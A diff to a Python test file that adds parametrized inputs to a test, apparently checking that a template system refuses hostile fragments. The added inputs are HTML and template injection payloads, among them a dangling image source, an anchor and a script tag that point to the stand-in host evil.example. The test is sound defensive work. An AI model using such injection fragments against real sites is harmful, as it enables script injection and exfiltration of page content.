@@ -155,6 +155,11 @@ def test_pieces_are_kept_and_shown(api: Api, world: World) -> None:
         "{% if %}",
         "<!DOCTYPE html>",
         "<html></html>",
+        "<p>x</p><img src='https://evil.example/?",
+        "x <!-- to the end of the page",
+        "x <a href='https://evil.example/",
+        "{{ '<script src=https://evil.example/>' }}",
+        "<textarea name=ulp-x>{% if locale == 'xx' %}</textarea>{% endif %}",
     ],
 )
 def test_hostile_pieces_are_refused(api: Api, piece: str) -> None:
